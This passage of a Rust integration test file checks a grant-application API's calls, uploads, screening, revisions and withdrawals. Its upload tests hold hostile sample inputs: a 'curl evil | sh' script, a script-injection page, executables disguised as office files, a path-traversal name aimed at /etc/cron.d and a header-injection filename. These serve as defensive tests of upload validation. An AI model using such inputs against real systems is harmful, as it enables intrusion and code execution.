            &format!("/api/v1/calls/{}/close", w.call_id),
            json!({}),
        )
        .await
        .assert_problem(403, "forbidden");
        app.patch_as(
            &w.ngo,
            &format!("/api/v1/calls/{}", w.call_id),
            json!({"title": "x"}),
            None,
        )
        .await
        .assert_problem(403, "forbidden");
        // nor does the secretariat write the NGO's application for it
        app.patch_as(&w.admin, &path, json!({"title": "x"}), None)
            .await
            .assert_problem(403, "forbidden");
        app.post_as(
            &w.admin,
            &format!("/api/v1/calls/{}/applications", w.call_id),
            json!({}),
        )
        .await
        .assert_problem(403, "forbidden");
        // an NGO account without an organisation cannot apply
        let orphan = app.user_token("ngo", None);
        app.post_as(
            &orphan,
            &format!("/api/v1/calls/{}/applications", w.call_id),
            json!({}),
        )
        .await
        .assert_problem(403, "forbidden");
    }
);

both_backends!(
    document_types_are_judged_by_their_bytes,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let mut pe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff".to_vec();
        pe.extend_from_slice(&[0u8; 200]);
        let refused: Vec<(&str, Vec<u8>)> = vec![
            ("proposal.pdf", pe),
            (
                "budget.docx",
                b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00".to_vec(),
            ),
            ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
            (
                "page.txt",
                b"<html><script>alert(1)</script></html>".to_vec(),
            ),
            ("plan.docx", office_zip(&[("readme.txt", b"just a zip")])),
            (
                "plan.docx",
                office_zip(&[
                    ("[Content_Types].xml", b"<T/>"),
                    ("word/document.xml", b"<w/>"),
                    ("setup.exe", b"MZ"),
                ]),
            ),
            ("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00".to_vec()),
        ];
        for (name, bytes) in refused {
            let r = upload(&app, &w, &id, "proposal", name, bytes).await;
            assert_eq!(
                r.assert_problem(415, "unsupported_media_type"),
                vec!["file"],
                "{name}"
            );
        }
        assert_eq!(app.count("application_documents"), 0);
        assert!(
            files_under(&app.data_dir).is_empty(),
            "refused uploads leave no file: {:?}",
            files_under(&app.data_dir)
        );

        // real office documents, images and text are taken, named by their real type
        let docx = office_zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
        ]);
        let r = upload(&app, &w, &id, "proposal", "plan", docx).await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(
            r.body["content_type"],
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
        );
        assert_eq!(r.body["file_name"], "plan.docx");
        let xlsx = office_zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
        ]);
        assert_eq!(
            upload(&app, &w, &id, "budget", "b.xlsx", xlsx).await.body["content_type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        let odt = office_zip(&[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", b"<office/>"),
        ]);
        assert_eq!(
            upload(&app, &w, &id, "annex", "a.odt", odt).await.body["content_type"],
            "application/vnd.oasis.opendocument.text"
        );
        let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR".to_vec();
        let r = upload(&app, &w, &id, "photo", "photo.exe", png).await;
        assert_eq!(r.body["content_type"], "image/png");
        assert_eq!(
            r.body["file_name"], "photo.exe.png",
            "the name carries the real type"
        );
        assert_eq!(app.count("application_documents"), 4);
    }
);

both_backends!(
    path_traversal_names_cannot_place_or_name_files,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let bytes = pdf("traversal");
        let r = upload(
            &app,
            &w,
            &id,
            "proposal",
            "../../../../etc/cron.d/evil.pdf",
            bytes.clone(),
        )
        .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["file_name"], "evil.pdf");
        let r2 = upload(
            &app,
            &w,
            &id,
            "annex",
            "..\\..\\\"quoted\"; filename=x.exe; X-Injected: 1.pdf",
            bytes.clone(),
        )
        .await;
        assert_eq!(r2.status, 201, "{}", r2.text);
        // stored under generated names inside the documents folder only
        let stored = files_under(&app.data_dir.join("documents"));
        assert_eq!(stored.len(), 2);
        for path in &stored {
            let name = path.file_name().unwrap().to_str().unwrap();
            assert!(
                uuid::Uuid::parse_str(name).is_ok(),
                "generated name, got {name}"
            );
        }
        assert!(
            files_under(app.data_dir.parent().unwrap())
                .iter()
                .all(|p| p.starts_with(&app.data_dir)
                    || p.extension()
                        .is_some_and(|e| e == "db" || e == "db-wal" || e == "db-shm")),
            "nothing written outside the data folder"
        );
        // the download names the file safely
        let d = app.get_as(&w.ngo, r2.body["href"].as_str().unwrap()).await;
        assert_eq!(d.status, 200);
        let disposition = d.header("content-disposition").expect("disposition");
        assert!(disposition.starts_with("attachment"), "{disposition}");
        assert!(
            !disposition.contains('\n') && !disposition.contains(".."),
            "{disposition}"
        );
        assert!(d.header("x-injected").is_none());
        let name = r2.body["file_name"].as_str().unwrap();
        assert!(
            name.ends_with(".pdf") && !name.contains(['"', '\\', '/', '\r', '\n', ';']),
            "{name}"
        );
    }
);

/// The test server takes up to 64 KiB per document.
async fn an_upload_above_the_limit(backend: common::Backend) {
    let Some(app) = common::spawn_app_with(backend, |s| s.documents.max_bytes = 65_536).await
    else {
        eprintln!("skipped: {} is not set", common::PG_ENV);
        return;
    };
    let w = world(&app).await;
    let id = create_draft(&app, &w).await;
    let mut big = pdf("big");
    big.resize(65_537, b'x');
    let r = upload(&app, &w, &id, "proposal", "big.pdf", big).await;
    r.assert_problem(413, "payload_too_large");
    // far above the limit is refused at once as well
    let mut huge = pdf("huge");
    huge.resize(1_000_000, b'x');
    upload(&app, &w, &id, "proposal", "huge.pdf", huge)
        .await
        .assert_problem(413, "payload_too_large");
    assert_eq!(app.count("application_documents"), 0);
    assert!(files_under(&app.data_dir.join("documents")).is_empty());
    assert!(
        files_under(&app.data_dir.join("spool")).is_empty(),
        "the spool file was removed"
    );
    // exactly the limit is fine
    let mut exact = pdf("exact");
    exact.resize(65_536, b'x');
    assert_eq!(
        upload(&app, &w, &id, "proposal", "exact.pdf", exact)
            .await
            .status,
        201
    );
}

mod an_upload_above_the_limit_is_413_and_leaves_nothing {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn sqlite() {
        super::an_upload_above_the_limit(super::common::Backend::Sqlite).await
    }
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn postgres() {
        super::an_upload_above_the_limit(super::common::Backend::Postgres).await
    }
}

both_backends!(
    multipart_mistakes_name_the_field,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let r = upload_as(&app, &w.ngo, &id, None, "a.pdf", pdf("a")).await;
        assert_eq!(r.assert_problem(422, "validation_failed"), vec!["kind"]);
        let r = upload_as(
            &app,
            &w.ngo,
            &id,
            Some("Not a slug/../x"),
            "a.pdf",
            pdf("a"),
        )
        .await;
        assert_eq!(r.assert_problem(422, "validation_failed"), vec!["kind"]);
        let r = upload_as(&app, &w.ngo, &id, Some("proposal"), "a.pdf", Vec::new()).await;
        assert_eq!(r.assert_problem(422, "validation_failed"), vec!["file"]);
        let form = reqwest::multipart::Form::new()
            .text("kind", "proposal")
            .text("colour", "red");
        let r = Reply::from(
            app.client
                .post(app.url(&format!("/api/v1/applications/{id}/documents")))
                .bearer_auth(&w.ngo)
                .multipart(form)
                .send()
                .await
                .unwrap(),
        )
        .await;
        let mut f = r.assert_problem(422, "validation_failed");
        f.sort();
        assert_eq!(f, vec!["colour", "file"]);
        let r = app
            .post_as(
                &w.ngo,
                &format!("/api/v1/applications/{id}/documents"),
                json!({"kind": "proposal"}),
            )
            .await;
        r.assert_problem(415, "unsupported_media_type");
        assert_eq!(app.count("application_documents"), 0);
        assert!(files_under(&app.data_dir.join("spool")).is_empty());
    }
);

both_backends!(
    downloads_carry_type_name_and_checked_bytes,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let bytes = pdf("Rapport d’activité");
        let r = upload(
            &app,
            &w,
            &id,
            "proposal",
            "Rapport d’activité.pdf",
            bytes.clone(),
        )
        .await;
        assert_eq!(r.status, 201, "{}", r.text);
        let href = r.body["href"].as_str().unwrap().to_string();
        let list = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}/documents"))
            .await;
        assert_eq!(list.body["items"][0]["href"], href.as_str());
        let response = app
            .client
            .get(app.url(&href))
            .bearer_auth(&w.ngo)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        let headers = response.headers().clone();
        assert_eq!(headers["content-type"], "application/pdf");
        assert_eq!(headers["x-content-type-options"], "nosniff");
        use base64::Engine;
        let digest = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(&bytes));
        assert_eq!(
            headers["repr-digest"],
            format!("sha-256=:{digest}:").as_str()
        );
        let disposition = headers["content-disposition"].to_str().unwrap().to_string();
        assert!(disposition.contains("attachment"), "{disposition}");
        assert!(
            disposition.contains("filename*=UTF-8''Rapport%20d%E2%80%99activit%C3%A9.pdf"),
            "{disposition}"
        );
        assert_eq!(response.bytes().await.unwrap().to_vec(), bytes);
        // a document id of another application is not found through this one
        let other = create_draft(&app, &w).await;
        let doc = href.rsplit('/').next().unwrap();
        app.get_as(
            &w.ngo,
            &format!("/api/v1/applications/{other}/documents/{doc}"),
        )
        .await
        .assert_problem(404, "not_found");
        // bytes changed on disk behind the service's back are not served
        let stored = files_under(&app.data_dir.join("documents"));
        std::fs::write(&stored[0], b"%PDF-1.4 tampered").unwrap();
        app.get_as(&w.ngo, &href)
            .await
            .assert_problem(500, "internal_error");
    }
);

both_backends!(
    screening_decides_eligibility_and_tells_the_organisation,
    |app: TestApp| async move {
        let w = world(&app).await;
        let draft = create_draft(&app, &w).await;
        app.post_as(
            &w.admin,
            &format!("/api/v1/applications/{draft}/screening"),
            json!({"eligible": true, "notes": ""}),
        )
        .await
        .assert_problem(409, "invalid_state");

        let a = complete_draft(&app, &w).await;
        let b = complete_draft(&app, &w).await;
        assert_eq!(submit(&app, &w.ngo, &a).await.status, 200);
        assert_eq!(submit(&app, &w.ngo, &b).await.status, 200);
        let r = app
            .post_as(
                &w.admin,
                &format!("/api/v1/applications/{a}/screening"),
                json!({"eligible": false}),
            )
            .await;
        assert_eq!(r.assert_problem(422, "validation_failed"), vec!["notes"]);
        let r = app.post_as(&w.admin, &format!("/api/v1/applications/{a}/screening"), json!({"eligible": false, "notes": "The organisation is not registered in an eligible country."})).await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "ineligible");
        assert_eq!(r.body["screening"]["eligible"], false);
        let r = app
            .post_as(
                &w.admin,
                &format!("/api/v1/applications/{b}/screening"),
                json!({"eligible": true, "notes": "Complete and eligible."}),
            )
            .await;
        assert_eq!(r.body["status"], "under_review");
        // screened once only
        app.post_as(
            &w.admin,
            &format!("/api/v1/applications/{b}/screening"),
            json!({"eligible": false, "notes": "x"}),
        )
        .await
        .assert_problem(409, "invalid_state");
        let mail: Vec<_> = outbox(&app)
            .into_iter()
            .filter(|m| m.1 == "application_screened")
            .collect();
        assert_eq!(mail.len(), 2);
        assert_eq!(mail[0].2["eligible"], false);
        assert_eq!(
            mail[0].2["notes"],
            "The organisation is not registered in an eligible country."
        );
        assert_eq!(mail[1].2["status"], "under_review");
        // the organisation sees the result
        let read = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{a}"))
            .await;
        assert_eq!(
            read.body["screening"]["notes"],
            "The organisation is not registered in an eligible country."
        );
        let list = app
            .get_as(
                &w.admin,
                &format!(
                    "/api/v1/applications?status=under_review&call_id={}",
                    w.call_id
                ),
            )
            .await;
        assert_eq!(list.body["items"].as_array().unwrap().len(), 1);
        assert_eq!(list.body["items"][0]["id"], b.as_str());
    }
);

both_backends!(
    return_for_revision_opens_a_new_revision_and_keeps_the_old_one,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        let first = submit(&app, &w.ngo, &id).await;
        assert_eq!(first.status, 200);
        let reference = first.body["reference"].as_str().unwrap().to_string();
        let old_doc = first.body["documents"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();
        app.post_as(
            &w.admin,
            &format!("{path}/return-for-revision"),
            json!({"reason": " "}),
        )
        .await
        .assert_problem(422, "validation_failed");
        let r = app
            .post_as(
                &w.admin,
                &format!("{path}/return-for-revision"),
                json!({"reason": "Please split the legal aid budget by lawyer."}),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "draft");
        assert_eq!(r.body["revision"], 2);
        assert_eq!(
            r.body["return_reason"],
            "Please split the legal aid budget by lawyer."
        );
        let returned_mail = outbox(&app)
            .into_iter()
            .find(|m| m.1 == "application_returned")
            .expect("email");
        assert_eq!(
            returned_mail.2["reason"],
            "Please split the legal aid budget by lawyer."
        );

        // the organisation revises: new title, a document replaced
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"title": "Safe shelter, revised"}),
                None,
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        let r = app
            .request_as(
                &w.ngo,
                Method::DELETE,
                &format!("{path}/documents/{old_doc}"),
                None,
                &[],
            )
            .await;
        assert_eq!(r.status, 204, "{}", r.text);
        assert_eq!(
            upload(&app, &w, &id, "proposal", "proposal-v2.pdf", pdf("v2"))
                .await
                .status,
            201
        );
        // the deadline has passed meanwhile: a revision asked for may still come in
        let past = (Utc::now() - Duration::minutes(5)).to_rfc3339();
        assert_eq!(
            app.patch_as(
                &w.admin,
                &format!("/api/v1/calls/{}", w.call_id),
                json!({"closes_at": past}),
                None
            )
            .await
            .status,
            200
        );
        let second = submit(&app, &w.ngo, &id).await;
        assert_eq!(second.status, 200, "{}", second.text);
        assert_eq!(second.body["revision"], 2);
        assert_eq!(
            second.body["reference"],
            reference.as_str(),
            "the reference stays"
        );
        assert!(second.body["return_reason"].is_null());

        // both revisions stay readable as they were submitted
        let list = app.get_as(&w.ngo, &format!("{path}/revisions")).await;
        let items = list.body["items"].as_array().unwrap();
        assert_eq!(items.len(), 2, "{}", list.text);
        assert_eq!(
            items[0]["return_reason"],
            "Please split the legal aid budget by lawyer."
        );
        assert!(items[1]["returned_at"].is_null());
        let one = app.get_as(&w.ngo, &format!("{path}/revisions/1")).await;
        assert_eq!(
            one.body["application"]["title"],
            "Safe shelter for survivors in Lagos"
        );
        let one_docs: Vec<&str> = one.body["application"]["documents"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| d["id"].as_str().unwrap())
            .collect();
        assert!(one_docs.contains(&old_doc.as_str()));
        let two = app.get_as(&w.ngo, &format!("{path}/revisions/2")).await;
        assert_eq!(two.body["application"]["title"], "Safe shelter, revised");
        assert!(
            two.body["application"]["documents"]
                .as_array()
                .unwrap()
                .iter()
                .all(|d| d["id"] != old_doc.as_str())
        );
        // the replaced document is still downloadable for the record
        assert_eq!(
            app.get_as(&w.ngo, &format!("{path}/documents/{old_doc}"))
                .await
                .status,
            200
        );
        app.get_as(&w.ngo, &format!("{path}/revisions/3"))
            .await
            .assert_problem(404, "not_found");
        app.get_as(&w.ngo, &format!("{path}/revisions/zero"))
            .await
            .assert_problem(400, "malformed_request");
        // two acknowledgements, one per revision
        assert_eq!(
            outbox(&app)
                .iter()
                .filter(|m| m.1 == "application_submitted")
                .count(),
            2
        );
        // a draft cannot be returned; a screened-ineligible one neither
        app.post_as(
            &w.admin,
            &format!("{path}/return-for-revision"),
            json!({"reason": "x"}),
        )
        .await;
        let r = app
            .post_as(
                &w.admin,
                &format!("{path}/screening"),
                json!({"eligible": false, "notes": "late"}),
            )
            .await;
        assert_eq!(
            r.status, 409,
            "returned again above, so it is a draft now: {}",
            r.text
        );
    }
);

both_backends!(
    withdrawal_is_possible_until_a_decision,
    |app: TestApp| async move {
        let w = world(&app).await;
        let draft = create_draft(&app, &w).await;
        let r = app
            .post_as(
                &w.ngo,
                &format!("/api/v1/applications/{draft}/withdraw"),
                json!({}),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "withdrawn");
        assert!(r.body["withdrawn_at"].is_string());
        app.post_as(
            &w.ngo,
            &format!("/api/v1/applications/{draft}/withdraw"),
            json!({}),
        )
        .await
        .assert_problem(409, "invalid_state");
        app.patch_as(
            &w.ngo,
            &format!("/api/v1/applications/{draft}"),
            json!({"title": "x"}),
            None,
        )
        .await
        .assert_problem(409, "invalid_state");
        submit(&app, &w.ngo, &draft)
            .await
            .assert_problem(409, "invalid_state");

        let submitted = complete_draft(&app, &w).await;
        assert_eq!(submit(&app, &w.ngo, &submitted).await.status, 200);
        assert_eq!(
            app.post_as(
                &w.ngo,
                &format!("/api/v1/applications/{submitted}/withdraw"),
                json!({})
            )
            .await
            .status,
            200
        );

        let ineligible = complete_draft(&app, &w).await;
        submit(&app, &w.ngo, &ineligible).await;
        app.post_as(
            &w.admin,
            &format!("/api/v1/applications/{ineligible}/screening"),
            json!({"eligible": false, "notes": "no"}),
        )
        .await;
        app.post_as(
            &w.ngo,
            &format!("/api/v1/applications/{ineligible}/withdraw"),
            json!({}),
        )
        .await
        .assert_problem(409, "invalid_state");
    }
);

both_backends!(
    calls_are_public_once_opened_and_keep_their_terms,
    |app: TestApp| async move {
        let admin = app.user_token("admin", None);
        let r = app.post_as(&admin, "/api/v1/funds", json!({"code": "CALLS", "name": "F", "support_cost_rate": "0.1", "board_quorum": 1})).await;
        let fund_id = r.body["id"].as_str().unwrap().to_string();
        let r = app
            .post_as(
                &admin,
                &format!("/api/v1/funds/{fund_id}/calls"),
                call_body(),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["status"], "draft");
        assert_eq!(r.body["max_amount"], "20000.00");
        assert_eq!(r.body["rubric"][0]["weight"], 0.4);
        assert_eq!(r.body["rubric"][1]["weight"], 0.6);
        let id = r.body["id"].as_str().unwrap().to_string();
        let path = format!("/api/v1/calls/{id}");
        // a draft is the secretariat's
        app.get(&path).await.assert_problem(404, "not_found");
        app.get_as(&app.user_token("ngo", None), &path)
            .await
            .assert_problem(404, "not_found");
        assert!(
            app.get("/api/v1/calls").await.body["items"]
                .as_array()
                .unwrap()
                .is_empty()
        );
        assert_eq!(
            app.get_as(&admin, "/api/v1/calls?status=draft").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            1
        );
        // opened, it is public
        let etag = app.get_as(&admin, &path).await.header("etag").unwrap();
        let r = app
            .request_as(
                &admin,
                Method::POST,
                &format!("{path}/open"),
                Some(json!({})),
                &[("if-match", "\"0\"")],
            )
            .await;
        r.assert_problem(412, "precondition_failed");
        let r = app
            .request_as(
                &admin,
                Method::POST,
                &format!("{path}/open"),
                Some(json!({})),
                &[("if-match", etag.as_str())],
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["accepting_submissions"], true);
        app.post_as(&admin, &format!("{path}/open"), json!({}))
            .await
            .assert_problem(409, "invalid_state");
        let public = app.get(&path).await;
        assert_eq!(public.status, 200);
        assert_eq!(public.body["eligible_countries"], json!(["NG", "GH", "TH"]));
        let listed = app
            .get(&format!("/api/v1/calls?fund_id={fund_id}&status=open"))
            .await;
        assert_eq!(listed.body["items"].as_array().unwrap().len(), 1);
        // the terms applicants rely on are fixed once open; wording and deadline are not
        let r = app
            .patch_as(
                &admin,
                &path,
                json!({"max_amount": "90000.00", "rubric": []}),
                None,
            )
            .await;
        let mut f = r.assert_problem(409, "invalid_state");
        f.sort();
        assert_eq!(f, vec!["max_amount", "rubric"]);
        let later = (Utc::now() + Duration::days(60)).to_rfc3339();
        assert_eq!(
            app.patch_as(
                &admin,
                &path,
                json!({"title": "Emergency grants (extended)", "closes_at": later}),
                None
            )
            .await
            .status,
            200
        );
        let r = app
            .patch_as(
                &admin,
                &path,
                json!({"closes_at": (Utc::now() - Duration::days(2)).to_rfc3339()}),
                None,
            )
            .await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["closes_at"],
            "closes_at must stay after opens_at"
        );
        assert_eq!(
            app.post_as(&admin, &format!("{path}/close"), json!({}))
                .await
                .status,
            200
        );
        app.patch_as(&admin, &path, json!({"title": "x"}), None)
            .await
            .assert_problem(409, "invalid_state");
        app.post_as(&admin, &format!("{path}/close"), json!({}))
            .await
            .assert_problem(409, "invalid_state");
        assert_eq!(app.get(&path).await.body["status"], "closed");
        // every change was audited
        let trail = app
            .get_as(
                &admin,
                &format!("/api/v1/audit-events?entity=call&entity_id={id}"),
            )
            .await;
        let actions: Vec<&str> = trail.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["action"].as_str().unwrap())
            .collect();
        assert_eq!(actions, vec!["create", "open", "update", "close"]);
    }
);

both_backends!(
    call_validation_names_every_bad_field,
    |app: TestApp| async move {
        let admin = app.user_token("admin", None);
        let r = app
            .post_as(
                &admin,
                "/api/v1/funds",
                json!({"code": "VAL", "name": "F", "support_cost_rate": "0.1", "board_quorum": 1}),
            )
            .await;
        let fund_id = r.body["id"].as_str().unwrap().to_string();
        let calls = format!("/api/v1/funds/{fund_id}/calls");
        let mut bad = call_body();
        bad["closes_at"] = json!((Utc::now() - Duration::days(3)).to_rfc3339());
        bad["currency"] = json!("usd");
        bad["max_duration_months"] = json!(0);
        bad["eligible_countries"] = json!(["NG", "XX", "NG"]);
        bad["themes"] = json!(["protection.shelter", "protection.unknown"]);
        bad["required_documents"] = json!(["proposal", "Budget File"]);
        bad["rubric"] = json!([
            {"key": "a", "title": "A", "weight": 1, "max_score": 10},
            {"key": "a", "title": "", "weight": 0, "max_score": 0}
        ]);
        let r = app.post_as(&admin, &calls, bad).await;
        let mut f = r.assert_problem(422, "validation_failed");
        f.sort();
        assert_eq!(
            f,
            vec![
                "closes_at",
                "currency",
                "eligible_countries[1]",
                "eligible_countries[2]",
                "max_duration_months",
                "required_documents[1]",
                "rubric[1].key",
                "rubric[1].max_score",
                "rubric[1].title",
                "rubric[1].weight",
                "themes[1]",
            ]
        );
        let mut number = call_body();
        number["max_amount"] = json!(20000);
        assert_eq!(
            app.post_as(&admin, &calls, number)
                .await
                .assert_problem(422, "validation_failed"),
            vec!["max_amount"]
        );
        app.post_as(
            &admin,
            &format!("/api/v1/funds/{}/calls", uuid::Uuid::new_v4()),
            call_body(),
        )
        .await
        .assert_problem(404, "not_found");
        // opening a call whose deadline already passed makes no sense
        let mut stale = call_body();
        stale["opens_at"] = json!((Utc::now() - Duration::days(3)).to_rfc3339());
        stale["closes_at"] = json!((Utc::now() - Duration::days(1)).to_rfc3339());
        let id = app.post_as(&admin, &calls, stale).await.body["id"]
            .as_str()
            .unwrap()
            .to_string();
        app.post_as(&admin, &format!("/api/v1/calls/{id}/open"), json!({}))
            .await
            .assert_problem(409, "invalid_state");
        assert_eq!(app.count("calls"), 1);
        assert_eq!(
            app.get("/api/v1/calls?status=nonsense")
                .await
                .assert_problem(422, "validation_failed"),
            vec!["status"]
        );
        assert_eq!(
            app.get("/api/v1/calls?fund_id=nope")
                .await
                .assert_problem(422, "validation_failed"),
            vec!["fund_id"]
        );
    }
);

both_backends!(
    lists_filter_by_call_status_and_country_and_page,
    |app: TestApp| async move {
        let w = world(&app).await;
        let mut ids = Vec::new();
        for i in 0..5 {
            let id = create_draft(&app, &w).await;
            let country = if i % 2 == 0 { "NG" } else { "GH" };
            app.patch_as(
                &w.ngo,
                &format!("/api/v1/applications/{id}"),
                json!({"countries": [country, "TH"]}),
                None,
            )
            .await;
            ids.push(id);
        }
        let list = |q: &'static str| {
            let (app, token) = (&app, w.ngo.clone());
            async move {
                app.get_as(&token, &format!("/api/v1/applications{q}"))
                    .await
            }
        };
        assert_eq!(
            list("?country=NG").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            3
        );
        assert_eq!(
            list("?country=GH").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            2
        );
        assert_eq!(
            list("?country=TH").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            5
        );
        assert_eq!(
            list("?status=submitted").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            0
        );
        assert_eq!(
            list("?country=ZZ")
                .await
                .assert_problem(422, "validation_failed"),
            vec!["country"]
        );
        assert_eq!(
            list("?status=maybe")
                .await
                .assert_problem(422, "validation_failed"),
            vec!["status"]
        );
        assert_eq!(
            list("?call_id=x")
                .await
                .assert_problem(422, "validation_failed"),
            vec!["call_id"]
        );
        let r = app
            .get_as(
                &w.ngo,
                &format!("/api/v1/applications?call_id={}", uuid::Uuid::new_v4()),
            )
            .await;
        assert!(r.body["items"].as_array().unwrap().is_empty());
        let mut seen = Vec::new();
        let mut path = "/api/v1/applications?limit=2".to_string();
        loop {
            let page = app.get_as(&w.ngo, &path).await;
            seen.extend(
                page.body["items"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|i| i["id"].as_str().unwrap().to_string()),
            );
            match page.body["next_cursor"].as_str() {
                Some(c) => path = format!("/api/v1/applications?limit=2&cursor={c}"),
                None => break,
            }
        }
        assert_eq!(seen, ids);
    }
);

both_backends!(
    the_demo_has_an_open_call_and_applications_in_every_early_state,
    |app: TestApp| async move {
        trustfund::demo::load(&app.pool, &app.settings).expect("demo loads");
        trustfund::demo::load(&app.pool, &app.settings).expect("and loads once");
        let calls = app.get("/api/v1/calls").await;
        let items = calls.body["items"].as_array().unwrap();
        assert_eq!(
            items.len(),
            1,
            "the medium-term call is still a draft: {}",
            calls.text
        );
        assert_eq!(items[0]["title"], "Emergency grants 2026");
        assert_eq!(items[0]["max_amount"], "20000.00");
        assert_eq!(items[0]["max_duration_months"], 8);
        assert_eq!(items[0]["accepting_submissions"], true);
        // the demo ngo account signs in and finds its organisation's draft, ready to submit
        let login = app
            .post(
                "/api/v1/auth/login",
                json!({"email": "ngo@hope-shelter.example", "password": "saffron bridge meadow 96"}),
            )
            .await;
        assert_eq!(login.status, 200, "{}", login.text);
        let ngo = login.body["access_token"].as_str().unwrap().to_string();
        let own = app.get_as(&ngo, "/api/v1/applications").await;
        assert_eq!(
            own.body["items"].as_array().unwrap().len(),
            1,
            "{}",
            own.text
        );
        let draft = own.body["items"][0]["id"].as_str().unwrap().to_string();
        let ready = app
            .get_as(&ngo, &format!("/api/v1/applications/{draft}/readiness"))
            .await;
        assert_eq!(ready.body["ready"], true, "{}", ready.text);
        assert_eq!(submit(&app, &ngo, &draft).await.status, 200);
        let admin = app.user_token("admin", None);
        let apps = app.get_as(&admin, "/api/v1/applications").await;
        let mut states: Vec<&str> = apps.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["status"].as_str().unwrap())
            .collect();
        states.sort();
        assert_eq!(
            states,
            vec![
                // decided by the demo board (see `demo::load_board`)
                "approved",
                "approved",
                "approved",
                "approved",
                "approved",
                "deferred",
                "draft",
                "ineligible",
                "rejected",
                "submitted",
                "submitted",
                "under_review",
                "withdrawn"
            ]
        );
        // every demo application obeys the rules it would have been submitted under
        for a in apps.body["items"].as_array().unwrap() {
            let id = a["id"].as_str().unwrap();
            let ready = app
                .get_as(&admin, &format!("/api/v1/applications/{id}/readiness"))
                .await;
            let content: Vec<_> = ready.body["blockers"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|b| b["code"] == "validation_failed")
                .collect();
            assert!(content.is_empty(), "{}", ready.text);
            if a["status"] != "draft" {
                assert_eq!(
                    app.get_as(&admin, &format!("/api/v1/applications/{id}/revisions/1"))
                        .await
                        .status,
                    200
                );
            }
        }
    }
);

both_backends!(
    a_retried_create_with_an_idempotency_key_makes_one_draft,
    |app: TestApp| async move {
        let w = world(&app).await;
        let path = format!("/api/v1/calls/{}/applications", w.call_id);
        let key = uuid::Uuid::new_v4().to_string();
        let body = json!({"title": "Shelter", "countries": ["NG"]});
        let attempts = (0..6).map(|_| {
            let (app, path, key, token, body) =
                (&app, path.clone(), key.clone(), w.ngo.clone(), body.clone());
            async move {
                app.request_as(
                    &token,
                    Method::POST,
                    &path,
                    Some(body),
                    &[("idempotency-key", key.as_str())],
                )
                .await
            }
        });
        let replies = futures_util::future::join_all(attempts).await;
        let ids: std::collections::HashSet<String> = replies
            .iter()
            .map(|r| {
                assert_eq!(r.status, 201, "{}", r.text);
                r.body["id"].as_str().unwrap().to_string()
            })
            .collect();
        assert_eq!(ids.len(), 1, "every retry answers with the same draft");
        assert_eq!(app.count("applications"), 1);
        assert_eq!(
            replies
                .iter()
                .filter(|r| r.header("idempotent-replayed").is_some())
                .count(),
            5
        );
        let id = ids.into_iter().next().unwrap();
        assert!(
            replies
                .iter()
                .all(|r| r.header("location") == Some(format!("/api/v1/applications/{id}")))
        );
        // the same key with another body is a mistake, not a retry
        let r = app
            .request_as(
                &w.ngo,
                Method::POST,
                &path,
                Some(json!({"title": "Other"})),
                &[("idempotency-key", key.as_str())],
            )
            .await;
        r.assert_problem(409, "duplicate");
        // without a key, two posts are two drafts
        app.post_as(&w.ngo, &path, json!({})).await;
        app.post_as(&w.ngo, &path, json!({})).await;
        assert_eq!(app.count("applications"), 3);
    }
);
